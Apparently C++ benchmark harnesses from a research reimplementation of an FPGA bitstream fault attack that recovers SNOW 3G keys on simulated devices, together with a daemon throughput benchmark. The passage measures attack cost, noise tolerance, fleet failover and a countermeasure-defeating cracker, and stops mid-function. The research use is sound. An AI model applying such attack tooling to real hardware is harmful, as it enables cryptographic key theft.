          size_t retry_ms = 0;
          const auto s0 = Clock::now();
          const auto id = client.submit(spec, &code, nullptr, &retry_ms);
          const double ms =
              std::chrono::duration<double, std::milli>(Clock::now() - s0).count();
          if (id) {
            r.ids.push_back(*id);
            r.submit_ms.push_back(ms);
            break;
          }
          if (code != 429 && code != 503) return;
          ++r.rejects;
          std::this_thread::sleep_for(
              std::chrono::milliseconds(std::min<size_t>(std::max<size_t>(retry_ms, 1), 500)));
        }
      }
      for (const std::string& id : r.ids) {
        const auto w0 = Clock::now();
        if (client.wait_done(id, /*poll_ms=*/5)) {
          r.e2e_ms.push_back(
              std::chrono::duration<double, std::milli>(Clock::now() - w0).count());
          ++r.done;
        }
      }
    });
  }
  for (std::thread& t : threads) t.join();

  SustainedResult out;
  out.wall_seconds = std::chrono::duration<double>(Clock::now() - t0).count();
  std::set<std::string> unique;
  std::vector<double> submit_ms;
  std::vector<double> e2e_ms;
  for (const PerClient& r : per) {
    out.accepted += r.ids.size();
    out.completed += r.done;
    out.rejects_retried += r.rejects;
    for (const std::string& id : r.ids) {
      if (!unique.insert(id).second) ++out.duplicates;
    }
    submit_ms.insert(submit_ms.end(), r.submit_ms.begin(), r.submit_ms.end());
    e2e_ms.insert(e2e_ms.end(), r.e2e_ms.begin(), r.e2e_ms.end());
  }
  out.lost = out.accepted - out.completed;
  out.jobs_per_s = out.wall_seconds > 0 ? out.completed / out.wall_seconds : 0;
  out.submit_p50_ms = percentile(submit_ms, 0.50);
  out.submit_p99_ms = percentile(submit_ms, 0.99);
  out.e2e_p50_ms = percentile(e2e_ms, 0.50);
  out.e2e_p99_ms = percentile(e2e_ms, 0.99);
  return out;
}

struct RoundtripResult {
  size_t requests = 0;
  double req_per_s = 0;
  double p50_ms = 0;
  double p99_ms = 0;
};

RoundtripResult run_roundtrip(const std::string& sock, const std::string& job_id,
                              size_t requests) {
  RoundtripResult out;
  out.requests = requests;
  service::Client client;
  if (!client.connect_unix(sock)) return out;
  service::Request req;
  req.verb = service::Verb::kStatus;
  req.job_id = job_id;
  std::vector<double> ms;
  ms.reserve(requests);
  const auto t0 = Clock::now();
  for (size_t i = 0; i < requests; ++i) {
    const auto s0 = Clock::now();
    const auto resp = client.request(req);
    if (!resp) break;
    ms.push_back(std::chrono::duration<double, std::milli>(Clock::now() - s0).count());
  }
  const double wall = std::chrono::duration<double>(Clock::now() - t0).count();
  out.req_per_s = wall > 0 ? ms.size() / wall : 0;
  out.p50_ms = percentile(ms, 0.50);
  out.p99_ms = percentile(ms, 0.99);
  return out;
}

void run_and_report() {
  const size_t clients = g_smoke ? 16 : 128;
  const size_t tenants = 4;
  const size_t jobs_per_client = g_smoke ? 1 : 4;
  const size_t trials = 8;
  const size_t roundtrips = g_smoke ? 200 : 2000;

  const std::string store = scratch_dir("sbm-bench-service-store");
  const std::string sock = scratch_dir("sbm-bench-service.sock");
  Daemon daemon(store, sock, /*workers=*/2);

  const SustainedResult sustained =
      run_sustained(sock, clients, tenants, jobs_per_client, trials);

  // One known-terminal job for the round-trip floor.
  std::string probe_id;
  {
    service::Client client;
    if (client.connect_unix(sock)) {
      service::JobSpec spec;
      spec.tenant = "probe";
      spec.mode = service::JobMode::kSynthetic;
      spec.options.trials = 2;
      if (const auto id = client.submit(spec)) {
        client.wait_done(*id, 2);
        probe_id = *id;
      }
    }
  }
  const RoundtripResult roundtrip = run_roundtrip(sock, probe_id, roundtrips);

  std::printf("service sustained: %zu/%zu jobs, %.0f jobs/s, submit p99 %.2f ms, "
              "e2e p50/p99 %.1f/%.1f ms, lost %zu, dup %zu, retried rejects %zu\n",
              sustained.completed, sustained.accepted, sustained.jobs_per_s,
              sustained.submit_p99_ms, sustained.e2e_p50_ms, sustained.e2e_p99_ms,
              sustained.lost, sustained.duplicates, sustained.rejects_retried);
  std::printf("service roundtrip: %zu reqs, %.0f req/s, p50 %.3f ms, p99 %.3f ms\n",
              roundtrip.requests, roundtrip.req_per_s, roundtrip.p50_ms, roundtrip.p99_ms);

  JsonWriter w;
  w.begin_object();
  w.field("bench", "service")
      .field("smoke", g_smoke)
      .field("clients", clients)
      .field("tenants", tenants)
      .field("jobs_per_client", jobs_per_client)
      .field("trials", trials);
  w.key("sustained").begin_object();
  w.field("wall_seconds", sustained.wall_seconds)
      .field("jobs_per_s", sustained.jobs_per_s)
      .field("accepted", sustained.accepted)
      .field("completed", sustained.completed)
      .field("lost", sustained.lost)
      .field("duplicates", sustained.duplicates)
      .field("rejects_retried", sustained.rejects_retried)
      .field("submit_p50_ms", sustained.submit_p50_ms)
      .field("submit_p99_ms", sustained.submit_p99_ms)
      .field("e2e_p50_ms", sustained.e2e_p50_ms)
      .field("e2e_p99_ms", sustained.e2e_p99_ms);
  w.end_object();
  w.key("roundtrip").begin_object();
  w.field("requests", roundtrip.requests)
      .field("req_per_s", roundtrip.req_per_s)
      .field("p50_ms", roundtrip.p50_ms)
      .field("p99_ms", roundtrip.p99_ms);
  w.end_object();
  w.end_object();
  if (std::FILE* f = std::fopen("BENCH_service.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), f);
    std::fclose(f);
    std::printf("wrote BENCH_service.json\n\n");
  }

  // The smoke entry doubles as a correctness check: losing or duplicating a
  // job is a daemon bug regardless of speed.
  if (sustained.lost != 0 || sustained.duplicates != 0 ||
      sustained.completed != sustained.accepted) {
    std::fprintf(stderr, "FATAL: job audit failed (lost=%zu dup=%zu)\n", sustained.lost,
                 sustained.duplicates);
    std::exit(1);
  }
}

void BM_StatusRoundtrip(benchmark::State& state) {
  const std::string store = scratch_dir("sbm-bench-service-bm");
  const std::string sock = scratch_dir("sbm-bench-service-bm.sock");
  Daemon daemon(store, sock, /*workers=*/1);
  service::Client client;
  std::string id;
  if (client.connect_unix(sock)) {
    service::JobSpec spec;
    spec.mode = service::JobMode::kSynthetic;
    spec.options.trials = 2;
    if (const auto submitted = client.submit(spec)) {
      client.wait_done(*submitted, 2);
      id = *submitted;
    }
  }
  service::Request req;
  req.verb = service::Verb::kStatus;
  req.job_id = id;
  for (auto _ : state) {
    auto resp = client.request(req);
    benchmark::DoNotOptimize(resp);
    if (!resp) state.SkipWithError("transport failed");
  }
}
BENCHMARK(BM_StatusRoundtrip)->Unit(benchmark::kMicrosecond);

}  // namespace

int main(int argc, char** argv) {
  int kept = 1;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--smoke") == 0) {
      g_smoke = true;
    } else {
      argv[kept++] = argv[i];
    }
  }
  argc = kept;
  run_and_report();
  if (g_smoke) return 0;  // smoke: skip the google-benchmark entries
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
