// End-to-end cost of the full Section VI attack: wall-clock and oracle
// reconfigurations per phase.  The paper's cost unit is a board reflash;
// ours is a simulated device load, so only the *counts* carry over.
#include <benchmark/benchmark.h>

#include <cstdio>

#include "attack/pipeline.h"
#include "fpga/system.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr snow3g::Iv kIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

void print_cost_breakdown() {
  const fpga::System& sys = system_instance();
  DeviceOracle oracle(sys, kIv);
  PipelineConfig cfg;
  cfg.iv = kIv;
  Attack attack(oracle, sys.golden.bytes, cfg);
  const AttackResult res = attack.execute();
  std::printf("=== End-to-end attack cost ===\n");
  std::printf("success: %s, key confirmed: %s\n", res.success ? "yes" : "no",
              res.key_confirmed ? "yes" : "no");
  std::printf("oracle reconfigurations: %zu total\n", res.oracle_runs);
  for (const auto& [phase, runs] : res.phase_runs) {
    std::printf("  %-10s %6zu\n", phase.c_str(), runs);
  }
  std::printf("verified LUT rewrites: %zu z-path + %zu feedback + %zu MUX (beta)\n\n",
              res.lut1.size(), res.feedback.size(), res.mux_patches);
}

void BM_FullAttack(benchmark::State& state) {
  const fpga::System& sys = system_instance();
  for (auto _ : state) {
    DeviceOracle oracle(sys, kIv);
    PipelineConfig cfg;
    cfg.iv = kIv;
    Attack attack(oracle, sys.golden.bytes, cfg);
    auto res = attack.execute();
    benchmark::DoNotOptimize(res);
    if (!res.success) state.SkipWithError("attack failed");
  }
}
BENCHMARK(BM_FullAttack)->Unit(benchmark::kSecond)->Iterations(1);

void BM_SystemBuild(benchmark::State& state) {
  for (auto _ : state) {
    auto sys = fpga::build_system();
    benchmark::DoNotOptimize(sys);
  }
}
BENCHMARK(BM_SystemBuild)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  print_cost_breakdown();
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  return 0;
}
