// End-to-end cost of the full Section VI attack: wall-clock and oracle
// reconfigurations per phase.  The paper's cost unit is a board reflash;
// ours is a simulated device load, so only the *counts* carry over.
//
// Besides the human-readable breakdown, this bench writes
// BENCH_attack_e2e.json (wall time, true oracle runs, cache hits, per-phase
// runs) so the performance trajectory is tracked across PRs.
#include <benchmark/benchmark.h>

#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <string>

#include "attack/cracker.h"
#include "attack/pipeline.h"
#include "common/json.h"
#include "faultsim/faulty_oracle.h"
#include "faultsim/noise.h"
#include "fleet/fleet.h"
#include "fpga/system.h"
#include "obs/metrics.h"
#include "obs/obs.h"
#include "obs/trace.h"
#include "runtime/probe_cache.h"
#include "runtime/thread_pool.h"
#include "simd/backend.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

constexpr snow3g::Iv kIv = {0xea024714, 0xad5c4d84, 0xdf1f9b25, 0x1c0bf45f};

// Set from --trace-out / --metrics-out before benchmark::Initialize sees argv.
std::string g_trace_out;
std::string g_metrics_out;

const fpga::System& system_instance() {
  static const fpga::System sys = fpga::build_system();
  return sys;
}

AttackResult run_once(bool cached, runtime::ThreadPool* pool, unsigned batch_width,
                      double* wall_seconds) {
  const fpga::System& sys = system_instance();
  DeviceOracle oracle(sys, kIv, pool, batch_width);
  runtime::ProbeCache cache;
  PipelineConfig cfg;
  cfg.iv = kIv;
  if (cached) cfg.cache = &cache;
  cfg.find.pool = pool;
  const auto start = std::chrono::steady_clock::now();
  Attack attack(oracle, sys.golden.bytes, cfg);
  AttackResult res = attack.execute();
  *wall_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  return res;
}

struct NoisyRun {
  AttackResult res;
  double wall = 0;
  /// Delta of oracle.singleton_runs across the run: probes that fell off the
  /// wide batch path onto the scalar one-at-a-time fallback.  Must be 0 —
  /// the chunk-refill scheduler keeps every re-read on the batch device.
  u64 singleton_runs = 0;
};

/// The fault-tolerant configuration: noise on the oracle, confirmation by
/// the selected controller (static 3-vote or adaptive sequential test),
/// cache + 64-lane batches on one thread.  Metrics are forced on for the
/// duration so the singleton-straggler counter is readable; the committed
/// baseline is generated under the same condition.
NoisyRun run_noisy(runtime::ControllerKind controller, const faultsim::NoiseProfile& profile) {
  const fpga::System& sys = system_instance();
  DeviceOracle device(sys, kIv, nullptr, 64);
  faultsim::FaultyOracle oracle(device, profile);
  runtime::ProbeCache cache;
  PipelineConfig cfg;
  cfg.iv = kIv;
  cfg.cache = &cache;
  cfg.retry = runtime::RetryPolicy::voting(3);
  cfg.controller = controller;
  if (controller == runtime::ControllerKind::kAdaptive) {
    cfg.adaptive = faultsim::adaptive_config_for(profile, cfg.words);
  }
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kMetrics);
  obs::Counter& singleton = obs::MetricsRegistry::global().counter("oracle.singleton_runs");
  const u64 singleton_before = singleton.value();
  NoisyRun run;
  const auto start = std::chrono::steady_clock::now();
  Attack attack(oracle, sys.golden.bytes, cfg);
  run.res = attack.execute();
  run.wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  run.singleton_runs = singleton.value() - singleton_before;
  obs::set_mode(saved);
  return run;
}

struct FleetRun {
  AttackResult res;
  double wall = 0;
  u64 singleton_runs = 0;
  // FleetOracle ledger, read back after the attack.
  size_t migrations = 0;
  size_t quarantines = 0;
  size_t hedged_wins = 0;
  size_t lost_probes = 0;
  unsigned boards = 0;
  unsigned alive = 0;
};

/// The deathmatch pool: board 0 draws from a death process hot enough to
/// kill it within the first phase, the spares are quiet.  Fully seeded, so
/// the single-board control deterministically aborts while the 4-board
/// fleet deterministically migrates and finishes with the clean cached
/// run's exact oracle_runs.
fleet::FleetOptions deathmatch_options(unsigned boards) {
  fleet::FleetOptions opt;
  opt.boards = boards;
  opt.noise.death = 1e-4;
  opt.noise.seed = 0xf1ee7;
  opt.noise_factors.assign(boards, 0.0);
  opt.noise_factors[0] = 1e9;
  return opt;
}

/// The failover configuration: the attack through a FleetOracle over the
/// deathmatch pool, cache + 64-lane batches, single confirmation with a
/// retry budget (voting(1)) so a mid-chunk death migrates instead of
/// latching fatal on the first timeout.
FleetRun run_fleet(unsigned boards, bool hedge) {
  const fpga::System& sys = system_instance();
  fleet::FleetOptions opt = deathmatch_options(boards);
  opt.hedge = hedge;
  fleet::FleetOracle oracle(sys, kIv, opt, nullptr, 64);
  runtime::ProbeCache cache;
  PipelineConfig cfg;
  cfg.iv = kIv;
  cfg.cache = &cache;
  cfg.retry = runtime::RetryPolicy::voting(1);
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kMetrics);
  obs::Counter& singleton = obs::MetricsRegistry::global().counter("oracle.singleton_runs");
  const u64 singleton_before = singleton.value();
  FleetRun run;
  const auto start = std::chrono::steady_clock::now();
  Attack attack(oracle, sys.golden.bytes, cfg);
  run.res = attack.execute();
  run.wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  run.singleton_runs = singleton.value() - singleton_before;
  obs::set_mode(saved);
  run.migrations = oracle.migrations();
  run.quarantines = oracle.quarantines();
  run.hedged_wins = oracle.hedged_wins();
  run.lost_probes = oracle.lost_probes();
  run.boards = oracle.boards();
  run.alive = oracle.alive_boards();
  return run;
}

struct CrackRun {
  CrackResult res;
  double wall = 0;
};

/// The oracle-guided countermeasure cracker (DESIGN.md §4l) against a
/// protected victim — plain Section VII decoys or the response-equalized
/// strengthening.  Cache + 64-lane batches on one thread, like the noisy
/// configuration.
CrackRun run_crack(bool equalized) {
  fpga::SystemOptions opt;
  opt.protected_variant = true;
  opt.equalized = equalized;
  const fpga::System sys = fpga::build_system(opt);
  DeviceOracle oracle(sys, kIv, nullptr, 64);
  runtime::ProbeCache cache;
  CrackerConfig cfg;
  cfg.cache = &cache;
  CrackRun run;
  const auto start = std::chrono::steady_clock::now();
  Cracker cracker(oracle, sys.golden.bytes, cfg);
  run.res = cracker.execute();
  run.wall =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  return run;
}

void print_cost_breakdown() {
  // The standard entries measure the attack itself: obs is forced off so the
  // committed baseline captures the disabled-mode cost that
  // check_bench_regression.py holds to < 3% drift.
  const obs::Mode saved_mode = obs::mode();
  obs::set_mode(obs::Mode::kOff);

  // Plain single-threaded uncached scalar run: the paper-faithful cost
  // metric (batch width 1 = one reconfiguration per probe, no bit-slicing)...
  double wall_plain = 0;
  const AttackResult plain = run_once(false, nullptr, 1, &wall_plain);
  std::printf("=== End-to-end attack cost ===\n");
  std::printf("success: %s, key confirmed: %s\n", plain.success ? "yes" : "no",
              plain.key_confirmed ? "yes" : "no");
  std::printf("oracle reconfigurations: %zu total\n", plain.oracle_runs);
  for (const auto& [phase, runs] : plain.phase_runs) {
    std::printf("  %-10s %6zu\n", phase.c_str(), runs);
  }
  std::printf("verified LUT rewrites: %zu z-path + %zu feedback + %zu MUX (beta)\n",
              plain.lut1.size(), plain.feedback.size(), plain.mux_patches);

  // ...the runtime configuration on one thread (probe cache + SIMD-wide
  // bit-sliced batches under the active backend, no pool)...
  const simd::Backend active = simd::active_backend();
  double wall_runtime_1t = 0;
  const AttackResult batched_1t =
      run_once(true, nullptr, simd::kMaxLanes, &wall_runtime_1t);
  // ...and the full production configuration (cache + batches + pool).
  double wall_runtime = 0;
  const AttackResult cached =
      run_once(true, &runtime::ThreadPool::global(), simd::kMaxLanes, &wall_runtime);
  std::printf("with probe cache + %s batches: %zu true runs + %zu cache hits\n",
              simd::backend_name(active), cached.oracle_runs, cached.cache_hits);
  std::printf("wall: %.2fs plain, %.2fs batched 1 thread, %.2fs batched %u threads\n",
              wall_plain, wall_runtime_1t, wall_runtime,
              runtime::ThreadPool::global().concurrency());
  bool identical = plain.success && cached.success &&
                   plain.faulty_keystream == cached.faulty_keystream &&
                   plain.secrets.key == cached.secrets.key &&
                   batched_1t.faulty_keystream == cached.faulty_keystream &&
                   batched_1t.oracle_runs == cached.oracle_runs;

  // The runtime_1t configuration once per usable SIMD backend: the wall
  // clocks are the per-backend perf record, and results_identical covers the
  // whole set — any backend drifting from the scalar reference is a bug, not
  // a perf note.
  struct BackendRun {
    simd::Backend backend;
    double wall = 0;
    AttackResult res;
  };
  std::vector<BackendRun> backend_runs;
  for (const simd::Backend b :
       {simd::Backend::kScalar, simd::Backend::kAvx2, simd::Backend::kAvx512}) {
    if (!simd::compiled(b) || !simd::host_supports(b)) continue;
    simd::ScopedBackend scoped(b);
    BackendRun run{b, 0, {}};
    run.res = run_once(true, nullptr, simd::kMaxLanes, &run.wall);
    std::printf("backend %-7s: %.2fs batched 1 thread, %zu true runs + %zu cache hits\n",
                simd::backend_name(b), run.wall, run.res.oracle_runs, run.res.cache_hits);
    identical = identical && run.res.success &&
                run.res.faulty_keystream == plain.faulty_keystream &&
                run.res.secrets.key == plain.secrets.key &&
                run.res.oracle_runs == batched_1t.oracle_runs &&
                run.res.cache_hits == batched_1t.cache_hits &&
                run.res.probe_calls == batched_1t.probe_calls;
    backend_runs.push_back(std::move(run));
  }
  std::printf("scalar/batched results identical: %s\n", identical ? "yes" : "NO (BUG)");

  // The same attack through a mild()-noisy oracle, once per controller: the
  // paper metric must not move, only the separately-reported overhead.  The
  // adaptive controller's entire win is in physical_runs/wall — both gated
  // against the static reference by check_bench_regression.py.
  const faultsim::NoiseProfile mild = faultsim::NoiseProfile::mild();
  const NoisyRun noisy = run_noisy(runtime::ControllerKind::kStatic, mild);
  std::printf("noisy (mild, 3-vote): success %s, %zu logical runs + %zu retries + %zu votes "
              "= %zu physical (%.2fs)\n",
              noisy.res.success ? "yes" : "NO (BUG)", noisy.res.oracle_runs,
              noisy.res.retry_runs, noisy.res.vote_runs, noisy.res.physical_runs, noisy.wall);
  const NoisyRun adaptive = run_noisy(runtime::ControllerKind::kAdaptive, mild);
  std::printf("noisy (mild, adaptive): success %s, %zu logical runs + %zu retries + %zu votes "
              "= %zu physical (%.2fs, %.2fx static)\n",
              adaptive.res.success ? "yes" : "NO (BUG)", adaptive.res.oracle_runs,
              adaptive.res.retry_runs, adaptive.res.vote_runs, adaptive.res.physical_runs,
              adaptive.wall,
              noisy.res.physical_runs > 0
                  ? static_cast<double>(adaptive.res.physical_runs) /
                        static_cast<double>(noisy.res.physical_runs)
                  : 0.0);

  // Noise-level sweep for the adaptive controller: the stopping depth (and
  // with it the physical cost) should track the actual corruption rate.
  struct SweepLevel {
    const char* name;
    double factor;
    NoisyRun run;
  };
  std::vector<SweepLevel> sweep;
  sweep.push_back({"0.5x", 0.5, run_noisy(runtime::ControllerKind::kAdaptive, mild.scaled(0.5))});
  sweep.push_back({"2x", 2.0, run_noisy(runtime::ControllerKind::kAdaptive, mild.scaled(2.0))});
  for (const SweepLevel& s : sweep) {
    std::printf("noise sweep %s (adaptive): success %s, %zu physical (%.2fs)\n", s.name,
                s.run.res.success ? "yes" : "NO (BUG)", s.run.res.physical_runs, s.run.wall);
  }

  // Fleet failover under the deathmatch profile: the single-board control
  // must abort (the profile kills its only board mid-attack) while the
  // 4-board fleet migrates and finishes with the clean run's exact
  // oracle_runs and a balanced physical ledger — both gated by
  // check_bench_regression.py.  Hedging stays off here so the committed
  // entry records the migration replay path, not a hedge rescue; the
  // hedged variant is covered by the smoke gate and tests/test_fleet.cpp.
  const FleetRun fleet_single = run_fleet(1, false);
  std::printf("fleet deathmatch (1 board, control): success %s (abort expected), "
              "%zu lost probes (%.2fs)\n",
              fleet_single.res.success ? "yes (BUG)" : "no", fleet_single.lost_probes,
              fleet_single.wall);
  const FleetRun fleet = run_fleet(4, /*hedge=*/false);
  std::printf("fleet deathmatch (4 boards): success %s, %zu logical + %zu retry "
              "+ %zu vote + %zu migration = %zu physical, %zu migration(s), "
              "%u/%u boards alive (%.2fs)\n",
              fleet.res.success ? "yes" : "NO (BUG)", fleet.res.oracle_runs,
              fleet.res.retry_runs, fleet.res.vote_runs, fleet.res.migration_runs,
              fleet.res.physical_runs, fleet.migrations, fleet.alive, fleet.boards,
              fleet.wall);

  // The arms race (DESIGN.md §4l): the cracker adaptively disambiguates the
  // plain countermeasure's decoys in ~600 probes where the static bound
  // claims C(n-32,32); the response-equalized strengthening forces it to a
  // proof of ambiguity and strictly more probes.
  const CrackRun crack = run_crack(/*equalized=*/false);
  std::printf("cracker (protected): verdict %s, %zu adaptive probes vs static bound "
              "2^%.1f over %zu sites (%.2fs)\n",
              crack.res.unique ? "unique" : "NOT UNIQUE (BUG)", crack.res.adaptive_probes,
              crack.res.log2_static_bound, crack.res.unique_sites, crack.wall);
  const CrackRun crack_eq = run_crack(/*equalized=*/true);
  std::printf("cracker (equalized): verdict %s, %zu adaptive probes, residual 2^%.1f "
              "hypotheses (%.2fs)\n",
              crack_eq.res.proven_ambiguous ? "proven ambiguous" : "NOT AMBIGUOUS (BUG)",
              crack_eq.res.adaptive_probes, crack_eq.res.log2_hypotheses_final, crack_eq.wall);
  std::printf("\n");

  // The runtime_1t configuration again with the full obs layer on: the delta
  // against runtime_1t is the enabled-mode overhead, and the identical
  // oracle_runs count demonstrates observability does not perturb the attack.
  obs::set_mode(obs::Mode::kAll);
  double wall_obs = 0;
  const AttackResult observed = run_once(true, nullptr, 64, &wall_obs);
  const size_t trace_events = obs::Tracer::global().event_count();
  std::printf("obs on (trace+metrics): %zu true runs, %zu trace events (%.2fs)\n\n",
              observed.oracle_runs, trace_events, wall_obs);
  if (!g_trace_out.empty()) {
    if (obs::Tracer::global().write(g_trace_out)) {
      std::printf("wrote %s\n", g_trace_out.c_str());
    } else {
      std::fprintf(stderr, "cannot write %s\n", g_trace_out.c_str());
    }
  }
  if (!g_metrics_out.empty()) {
    const std::string snapshot = obs::MetricsRegistry::global().snapshot().to_json();
    if (std::FILE* f = std::fopen(g_metrics_out.c_str(), "w")) {
      std::fwrite(snapshot.data(), 1, snapshot.size(), f);
      std::fclose(f);
      std::printf("wrote %s\n", g_metrics_out.c_str());
    } else {
      std::fprintf(stderr, "cannot write %s\n", g_metrics_out.c_str());
    }
  }
  obs::set_mode(saved_mode);

  JsonWriter w;
  w.begin_object();
  w.field("bench", "attack_e2e");
  w.field("threads", u64{runtime::ThreadPool::global().concurrency()});
  w.field("backend", simd::backend_name(active));
  w.field("results_identical", identical);
  auto entry = [&w](const std::string& name, const AttackResult& r, double wall,
                    const char* backend) {
    w.key(name).begin_object();
    w.field("wall_seconds", wall)
        .field("oracle_runs", r.oracle_runs)
        .field("cache_hits", r.cache_hits)
        .field("probe_calls", r.probe_calls)
        .field("backend", backend);
    w.end_object();
  };
  entry("plain", plain, wall_plain, "scalar");  // width 1: no bit-slicing at all
  entry("runtime_1t", batched_1t, wall_runtime_1t, simd::backend_name(active));
  entry("runtime", cached, wall_runtime, simd::backend_name(active));
  for (const BackendRun& run : backend_runs) {
    entry(std::string("runtime_1t_") + simd::backend_name(run.backend), run.res, run.wall,
          simd::backend_name(run.backend));
  }
  w.key("obs").begin_object();
  w.field("wall_seconds", wall_obs)
      .field("oracle_runs", observed.oracle_runs)
      .field("cache_hits", observed.cache_hits)
      .field("probe_calls", observed.probe_calls)
      .field("trace_events", u64{trace_events});
  w.end_object();
  auto noisy_entry = [&w](const std::string& name, const NoisyRun& run) {
    w.key(name).begin_object();
    w.field("wall_seconds", run.wall)
        .field("success", run.res.success)
        .field("oracle_runs", run.res.oracle_runs)
        .field("cache_hits", run.res.cache_hits)
        .field("probe_calls", run.res.probe_calls)
        .field("physical_runs", run.res.physical_runs)
        .field("retry_runs", run.res.retry_runs)
        .field("vote_runs", run.res.vote_runs)
        .field("corruption_detections", run.res.corruption_detections)
        .field("singleton_runs", run.singleton_runs);
    w.end_object();
  };
  noisy_entry("noisy", noisy);
  noisy_entry("noisy_adaptive", adaptive);
  w.key("fleet_deathmatch").begin_object();
  w.field("wall_seconds", fleet.wall)
      .field("success", fleet.res.success)
      .field("single_success", fleet_single.res.success)  // control: must stay false
      .field("boards", u64{fleet.boards})
      .field("alive_boards", u64{fleet.alive})
      .field("oracle_runs", fleet.res.oracle_runs)
      .field("cache_hits", fleet.res.cache_hits)
      .field("probe_calls", fleet.res.probe_calls)
      .field("physical_runs", fleet.res.physical_runs)
      .field("retry_runs", fleet.res.retry_runs)
      .field("vote_runs", fleet.res.vote_runs)
      .field("migration_runs", fleet.res.migration_runs)
      .field("migrations", u64{fleet.migrations})
      .field("quarantines", u64{fleet.quarantines})
      .field("lost_probes", u64{fleet.lost_probes})
      .field("singleton_runs", fleet.singleton_runs);
  w.end_object();
  w.key("cracker").begin_object();
  w.field("wall_seconds", crack.wall)
      .field("unique", crack.res.unique)
      .field("adaptive_probes", crack.res.adaptive_probes)
      .field("candidates", crack.res.candidates)
      .field("unique_sites", crack.res.unique_sites)
      .field("log2_static_bound", crack.res.log2_static_bound)
      .field("equalized_wall_seconds", crack_eq.wall)
      .field("equalized_adaptive_probes", crack_eq.res.adaptive_probes)
      .field("equalized_proven_ambiguous", crack_eq.res.proven_ambiguous)
      .field("equalized_log2_final", crack_eq.res.log2_hypotheses_final);
  w.end_object();
  w.key("noise_sweep").begin_object();
  auto sweep_entry = [&w](const char* name, const NoisyRun& run) {
    w.key(name).begin_object();
    w.field("wall_seconds", run.wall)
        .field("success", run.res.success)
        .field("oracle_runs", run.res.oracle_runs)
        .field("physical_runs", run.res.physical_runs);
    w.end_object();
  };
  sweep_entry("0.5x", sweep[0].run);
  sweep_entry("1x", adaptive);  // the default profile is the 1x level
  sweep_entry("2x", sweep[1].run);
  w.end_object();
  w.key("phase_oracle_runs").begin_object();
  for (const auto& [phase, runs] : cached.phase_runs) w.field(phase, runs);
  w.end_object();
  w.end_object();
  if (std::FILE* f = std::fopen("BENCH_attack_e2e.json", "w")) {
    std::fwrite(w.str().data(), 1, w.str().size(), f);
    std::fclose(f);
    std::printf("wrote BENCH_attack_e2e.json\n\n");
  }
}

/// Fast gate for ctest (bench.noisy_smoke): both controllers recover the key
/// through mild noise with identical logical cost, the adaptive one strictly
/// cheaper physically, and zero singleton-straggler runs.  No JSON is
/// written — the committed baseline regenerates only on a full bench run.
int run_noisy_smoke() {
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kOff);  // run_noisy switches to kMetrics itself
  const faultsim::NoiseProfile mild = faultsim::NoiseProfile::mild();
  const NoisyRun stat = run_noisy(runtime::ControllerKind::kStatic, mild);
  const NoisyRun adapt = run_noisy(runtime::ControllerKind::kAdaptive, mild);
  obs::set_mode(saved);
  bool ok = true;
  auto check = [&ok](bool cond, const char* what) {
    std::printf("%-48s %s\n", what, cond ? "ok" : "FAIL");
    ok = ok && cond;
  };
  check(stat.res.success, "static: key recovered through mild noise");
  check(adapt.res.success, "adaptive: key recovered through mild noise");
  check(adapt.res.oracle_runs == stat.res.oracle_runs,
        "oracle_runs invariant across controllers");
  check(stat.singleton_runs == 0, "static: no singleton stragglers");
  check(adapt.singleton_runs == 0, "adaptive: no singleton stragglers");
  check(adapt.res.physical_runs < stat.res.physical_runs,
        "adaptive physically cheaper than static");
  std::printf("noisy smoke: %s (static %zu physical, adaptive %zu physical)\n",
              ok ? "PASS" : "FAIL", stat.res.physical_runs, adapt.res.physical_runs);
  return ok ? 0 : 1;
}

/// Fast gate for ctest (bench.fleet_smoke): the deathmatch profile kills the
/// single-board control mid-attack, while the 4-board fleet migrates and
/// finishes with the clean cached run's exact logical cost, a balanced
/// physical ledger, and zero lost probes.  The hedged variant must reach
/// the same logical result, absorbing the death through hedge rescues or
/// migration.  No JSON is written.
int run_fleet_smoke() {
  const obs::Mode saved = obs::mode();
  obs::set_mode(obs::Mode::kOff);  // run_fleet switches to kMetrics itself
  double wall_clean = 0;
  const AttackResult clean = run_once(true, nullptr, 64, &wall_clean);
  const FleetRun single = run_fleet(1, false);
  const FleetRun fleet = run_fleet(4, /*hedge=*/false);
  const FleetRun hedged = run_fleet(4, /*hedge=*/true);
  obs::set_mode(saved);
  bool ok = true;
  auto check = [&ok](bool cond, const char* what) {
    std::printf("%-48s %s\n", what, cond ? "ok" : "FAIL");
    ok = ok && cond;
  };
  check(!single.res.success && single.res.partial,
        "single board aborts under the death profile");
  check(fleet.res.success, "4-board fleet recovers the key");
  check(fleet.res.oracle_runs == clean.oracle_runs,
        "oracle_runs identical to the clean cached run");
  check(fleet.res.faulty_keystream == clean.faulty_keystream,
        "faulty keystream bit-identical to clean");
  check(fleet.res.physical_runs ==
            fleet.res.oracle_runs + fleet.res.retry_runs + fleet.res.vote_runs +
                fleet.res.migration_runs,
        "ledger: physical = oracle+retry+vote+migration");
  check(fleet.migrations >= 1, "at least one board death migrated");
  check(fleet.lost_probes == 0, "no probes lost to the fleet");
  check(fleet.singleton_runs == 0, "no singleton stragglers");
  check(hedged.res.success && hedged.res.oracle_runs == clean.oracle_runs &&
            hedged.res.faulty_keystream == clean.faulty_keystream,
        "hedged fleet: same logical result");
  check(hedged.migrations + hedged.hedged_wins >= 1,
        "hedged fleet survived via rescue or migration");
